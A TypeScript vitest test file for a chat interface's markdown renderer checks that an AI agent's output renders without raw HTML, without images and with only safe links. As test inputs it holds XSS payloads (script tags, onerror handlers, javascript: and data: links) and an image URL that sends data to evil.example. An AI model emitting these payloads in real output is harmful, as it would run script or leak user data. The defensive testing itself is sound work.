// The agent's markdown as the page renders it (src/components/chat/markdownRendering.ts), rendered
// to static HTML in node: no raw HTML, no images, and only safe links, whatever the model writes.
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { renderMarkdown } from "../../../src/components/chat/markdownRendering.ts";

const render = (text: string) => renderToStaticMarkup(renderMarkdown(text));

describe("renderMarkdown", () => {
  it("renders ordinary markdown: emphasis, lists, GFM tables, code", () => {
    const html = render("**bold** and _soft_\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nconst x = 1;\n```");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>soft</em>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain('<table class="markdown__table">');
    expect(html).toContain('<pre class="markdown__pre" tabindex="0"><code>const x = 1;\n</code></pre>');
  });

  it.each([
    ["a script tag", "<script>alert(1)</script>"],
    ["an event handler", '<img src="x" onerror="alert(1)">'],
    ["an iframe", '<iframe src="https://evil.example"></iframe>'],
    ["inline HTML in a sentence", "Hello <b onclick=alert(1)>there</b>"],
    ["a style block", "<style>body{display:none}</style>"],
  ])("drops raw HTML: %s", (_name, text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(script|img|iframe|style|b)\b/);
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("onclick");
  });

  it("opens a web link in a new tab with no opener, no referrer, and no endorsement", () => {
    const html = render("[docs](https://example.com/docs)");
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
  });

  it("links bare URLs too (GFM autolinks), with the same attributes", () => {
    expect(render("see https://example.com/x")).toContain('rel="noopener noreferrer nofollow ugc"');
  });

  it.each([
    ["javascript:", "[click](javascript:alert(1))"],
    ["javascript: with entities", "[click](&#106;avascript:alert(1))"],
    ["data:", "[click](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a relative path", "[click](/syncboard)"],
    ["hidden credentials", "[click](https://bank.example@evil.example/)"],
    ["a reference-style javascript: link", "[click][x]\n\n[x]: javascript:alert(1)"],
  ])("renders a %s link as plain text", (_name, text) => {
    const html = render(text);
    expect(html).not.toContain("<a ");
    expect(html).toContain('<span class="markdown__unlinked">click</span>');
  });

  it("never renders an image: the browser would fetch it without a click", () => {
    const html = render("![chart](https://evil.example/collect?data=secret)");
    expect(html).not.toContain("<img");
    expect(html).toContain("[image: chart]");
    // The address stays visible as an ordinary link, fetched only if the visitor follows it.
    expect(html).toContain('href="https://evil.example/collect?data=secret"');
  });

  it("keeps an image with a forbidden address as text only", () => {
    const html = render("![x](javascript:alert(1))");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<a ");
    expect(html).toContain("[image: x]");
  });

  it("turns headings into emphasised paragraphs, so messages do not reshape the page outline", () => {
    const html = render("# Title\n\n### Sub");
    expect(html).not.toMatch(/<h[1-6]/);
    expect(html).toContain('<p class="markdown__heading">Title</p>');
  });
});
